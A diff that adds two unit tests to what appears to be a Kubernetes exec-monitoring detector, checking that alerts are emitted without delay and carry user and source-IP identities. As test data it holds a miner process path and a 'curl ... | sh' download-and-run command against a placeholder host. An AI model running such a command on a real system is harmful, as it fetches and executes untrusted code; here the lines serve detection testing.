@@ -239,3 +239,33 @@ def test_every_input_alert_comes_out_exactly_once(items: list[tuple[Event, Alert
     # every rule hit of every input alert is in the output alert that holds its event
     out_rules = {r for a in out for r in rules(a)}
     assert {r for a in inputs for r in rules(a)} <= out_rules
+
+
+def test_nothing_waits_in_watch_mode() -> None:
+    rec = api(0)
+    mine = proc(0.2, 100, 50, ["/tmp/xmrig"])
+    late_rec = proc(5, 300, 1, ["/bin/sh"], pod="db-0")  # its record (if any) has not come yet
+    j = Joiner(hold=False)
+    first = [a for a, _ in j.feed(rec, alert(rec), 1)]
+    assert [a.event for a in first] == [rec]  # written at once, not held for its processes
+    second = [a for a, _ in j.feed(mine, alert(mine, "critical", "cmd-miner"), 2)]
+    assert [a.event for a in second] == [mine] and mine.actor.user == "alice"
+    assert next(a for a, _ in j.feed(late_rec, alert(late_rec), 3)).event is late_rec
+    assert list(j.drain()) == [] and j.stats.bypasses == 0 and j.stats.unjudged == 1
+
+
+def test_watch_detector_attaches_identities() -> None:
+    from execguard.engine.match import Engine
+    from execguard.live.inputs import Batch
+    from execguard.live.runner import Detector
+    from execguard.pipeline.rules import load
+
+    engine = Engine(load([], builtin=True))
+    rec = api(0, cmd=["sh", "-c", "curl -s http://x/m.sh | sh"])
+    rec.verb, rec.request_uri = "create", "/api/v1/namespaces/prod/pods/web-1/exec?command=sh"
+    child = proc(0.3, 101, 50, ["/bin/sh", "-c", "curl -s http://x/m.sh | sh"])
+    detector = Detector(engine, None, 0, Joiner(hold=False))
+    out = detector.alerts(Batch("test", [rec, child]))
+    process_alerts = [a for a in out if a.event is child]
+    assert process_alerts and process_alerts[0].event.actor.user == "alice"
+    assert process_alerts[0].event.actor.source_ip == ["10.0.0.9"]
